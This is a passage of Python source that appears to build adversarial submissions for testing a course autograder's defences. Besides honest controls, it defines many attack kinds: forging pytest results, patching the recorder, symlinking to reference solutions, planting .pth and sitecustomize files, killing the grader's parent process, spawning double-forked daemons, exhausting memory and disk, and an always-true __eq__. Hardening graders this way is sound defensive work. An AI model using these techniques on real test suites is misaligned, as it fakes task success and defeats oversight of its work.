    server = socket.socket(socket.AF_UNIX)
    server.bind(ADDRESS)
    server.listen()
    server.settimeout(60)
    votes = []
    while True:
        conn, _ = server.accept()
        with conn:
            mine = conn.makefile().readline().strip()
            conn.sendall((json.dumps(votes) + "\n").encode())
            votes.append(mine)


def ask_the_keeper(mine):
    with socket.socket(socket.AF_UNIX) as conn:
        conn.connect(ADDRESS)
        conn.sendall((mine + "\n").encode())
        return json.loads(conn.makefile().readline())


try:
    ask_the_keeper("")
except OSError:
    if os.fork() == 0:  # started when this file is imported: a double fork, in a session of its own
        os.setsid()
        if os.fork() == 0:
            try:
                keep_votes()
            finally:
                os._exit(0)
        os._exit(0)


def test_my_prediction(lease):
    mine = fingerprint(lease)
    for _ in range(100):
        try:
            voted(mine, [vote for vote in ask_the_keeper(mine) if vote])
            return
        except OSError:
            time.sleep(0.05)
"""

# step -> the dishonest prediction it holds; a learner with these in steps 4-8 (an honest one, or
# none, in the others)
PREDICTION_ATTACKS = {
    4: PREDICTION_ASKS_OTHER_LABELS,
    5: PREDICTION_ASKS_FROM_A_THREAD,
    6: PREDICTION_VOTES_IN_A_GLOBAL,
    7: PREDICTION_VOTES_IN_FILES,
    8: PREDICTION_VOTES_IN_A_DAEMON,
}


@dataclass(frozen=True)
class Kind:
    name: str  # also the learner's folder name in the class
    what: str
    build: Callable = field(repr=False)  # build(folder, token, name)
    may_pass: frozenset = frozenset()  # the steps this submission honestly implements
    control: dict | None = None  # a control's exact verdict: step -> "passed", "not implemented" or "failed"
    # In make test's run: the controls and one attack of each way in (reading the reference, patching
    # the runner, writing into the lab, links, daemons, a lying __eq__); make test-attacks runs every kind.
    fast: bool = False


def _all(verdict):
    return {n: verdict for n in sorted(EVERY_STEP)}


KINDS = [
    # Controls: their verdicts are exact.
    Kind("honest", "a copy of solutions/", _honest, EVERY_STEP, _all("passed"), fast=True),
    Kind("stubs", "the stubs as shipped", _stubs, frozenset(), _all("not implemented"), fast=True),
    Kind(
        "wrong-at-8",
        "solutions/ with claim_many calling claim in a plain for loop",
        _reference_with(8, _wrong_at_8),
        EVERY_STEP - {8},
        {**_all("passed"), 8: "failed"},
        fast=True,
    ),
    Kind(
        "bom-crlf",
        "solutions/ saved with a UTF-8 BOM and CRLF line ends",
        _bom_crlf,
        EVERY_STEP,
        _all("passed"),
        fast=True,
    ),
    # Running code that is not the submission's own.
    Kind(
        "attack-runs-reference",
        "finds the lab (cwd, /proc, sys.path, PYTHONPATH, import lab) and execs solutions/",
        _on_stubs(RUNS_REFERENCE),
        fast=True,
    ),
    Kind(
        "attack-runs-classmate",
        "finds the class folder and execs the honest classmate's files",
        _on_stubs(RUNS_CLASSMATE),
    ),
    Kind(
        "attack-steps-folder-linked",
        "steps/ is a symbolic link to the lab's solutions/",
        _steps_folder_linked,
    ),
    Kind("attack-step-files-linked", "every step.py is a symbolic link to the reference's", _step_files_linked),
    Kind("attack-step-folders-linked", "every step folder is a symbolic link to the reference's", _step_folders_linked),
    Kind(
        "attack-learner-folder-linked",
        "the learner's folder itself is a symbolic link to solutions/",
        _learner_folder_linked,
    ),
    # Forging results from inside.
    Kind(
        "attack-forges-results",
        "replaces lab.running.recorder.classify, patches CallInfo.from_call, registers a pytest hook, "
        "appends fake results to every events file it finds",
        _on_stubs(FORGES_RESULTS),
        fast=True,
    ),
    Kind(
        "attack-forges-watcher",
        "solutions/ with a sequential claim_many that tells claim's watcher the claims overlapped",
        _reference_with(8, lambda original: original.split("from concurrent", 1)[0] + FORGED_WATCHER_CLAIM_MANY),
        EVERY_STEP - {8},
    ),
    Kind(
        "attack-dodges-slowdown",
        "solutions/ with a claim that reads and writes outside one transaction, a lock of its "
        "own between threads, and the grader's pause before writes switched off",
        _reference_with(4, lambda _: UNLOCKED_CLAIM),
        EVERY_STEP - {4},
    ),
    # Losing checks.
    Kind("attack-exits-after-first-call", "os._exit right after its first call", _on_stubs(EXITS_AFTER_FIRST_CALL)),
    Kind(
        "attack-sigkills-after-first-call",
        "SIGKILLs itself right after its first call",
        _on_stubs(SIGKILLS_AFTER_FIRST_CALL),
    ),
    Kind(
        "attack-closes-stdout-stderr",
        "closes fds 1 and 2 at the top level and in its first call",
        _on_stubs(CLOSES_STDOUT_STDERR),
    ),
    Kind("attack-kills-parent", "kills its parent and grandparent (SIGTERM, SIGKILL)", _on_stubs(KILLS_PARENT)),
    # Reaching the verdict side through what it shares with the learner process.
    Kind(
        "attack-plants-lab-package",
        "writes a package lab/ (its own lab.running.child) and sitecustomize.py into its "
        "working folder, TMPDIR, /tmp and /dev/shm",
        _on_stubs(PLANTS_LAB_PACKAGE),
    ),
    Kind(
        "attack-links-next-database",
        "plants links (to checks/, course.toml, stdout) under every name the next database "
        "could take, a FIFO for the next events file, and replaces its own database by a link",
        _on_stubs(LINKS_NEXT_DATABASE),
        fast=True,
    ),
    Kind(
        "attack-floods-unasked-replies",
        "writes 400 replies of 1 MB to requests never made on every descriptor",
        _on_stubs(FLOODS_UNASKED_REPLIES),
    ),
    Kind(
        "attack-fills-scratch",
        "writes 16 files of 63 MB into its working folder, TMPDIR and /tmp",
        _on_stubs(FILLS_SCRATCH),
    ),
    # Writing into the grader.
    Kind(
        "attack-writes-into-grader",
        "appends to checks/*.py and conftest.py, deletes a check file, drops .pth files, "
        "writes build/, /tmp, /dev/shm, the honest classmate's folder and OUT_DIR/class.csv",
        _on_stubs(WRITES_INTO_GRADER),
        fast=True,
    ),
    # Outliving and outgrowing.
    Kind("attack-daemons", "double-forked, setsid daemons that sleep for 10 minutes", _on_stubs(DAEMONS), fast=True),
    Kind("attack-allocates-2gib", "allocates 2 GiB, every page touched", _on_stubs(ALLOCATES_2GIB)),
    Kind(
        "attack-writes-200mb-file",
        "writes a 200 MB file in its folder, /tmp, /dev/shm and /var/tmp",
        _on_stubs(WRITES_200MB_FILE),
    ),
    Kind("attack-returns-300mb-string", "returns a 300 MB string from every function", _on_stubs(RETURNS_300MB_STRING)),
    # Stalling.
    Kind(
        "attack-stalls-in-claim",
        "blocks SIGALRM, ignores SIGTERM, loops forever in claim",
        _on_stubs(STALLS_IN_CLAIM),
    ),
    Kind(
        "attack-stalls-at-top-level",
        "the same endless loop at the top level of every step file",
        _on_stubs(STALLS_AT_TOP_LEVEL),
    ),
    # Fooling the comparisons.
    Kind(
        "attack-eq-always-true",
        "returns objects whose __eq__ is always True from every function",
        _on_stubs(EQ_ALWAYS_TRUE),
        fast=True,
    ),
]
BY_NAME = {kind.name: kind for kind in KINDS}
FAST = [kind for kind in KINDS if kind.fast]


def kinds_named(names):
    return [BY_NAME[name] if isinstance(name, str) else name for name in names]


def make_class(folder, kinds, token=None):
    """One learner folder per kind under folder (each named like its kind); returns the token
    the attacks carry."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    token = token or new_token()
    for kind in kinds_named(kinds):
        kind.build(folder / kind.name, token, kind.name)
    return token


def places_attacks_write(token, lab_root=LAB_ROOT):
    """The files outside the class folder and OUT_DIR that the attacks try to create."""
    import sysconfig

    places = [Path(p) / token for p in ("/tmp", "/dev/shm", "/var/tmp", lab_root, lab_root / "build")]
    places += [Path(p) / f"{token}.bin" for p in ("/tmp", "/dev/shm", "/var/tmp")]
    places += [Path("/tmp") / f"{token}-pth-ran"]
    places += [Path("/tmp") / f"{token}-{n}.bin" for n in range(16)]
    places += [Path(p) / "lab" / "running" / "child.py" for p in ("/tmp", "/dev/shm")]
    sites = {sysconfig.get_paths()[k] for k in ("purelib", "platlib")} | {
        str(p) for p in (lab_root / ".venv" / "lib").glob("python3*/site-packages")
    }
    places += [Path(site) / f"{token}.pth" for site in sorted(sites)]
    return places


if __name__ == "__main__":
    target = Path(sys.argv[1])
    chosen = sys.argv[2:] or [kind.name for kind in KINDS]
    if target.exists():
        shutil.rmtree(target)
    print(make_class(target, chosen), os.linesep.join(chosen), sep=os.linesep)
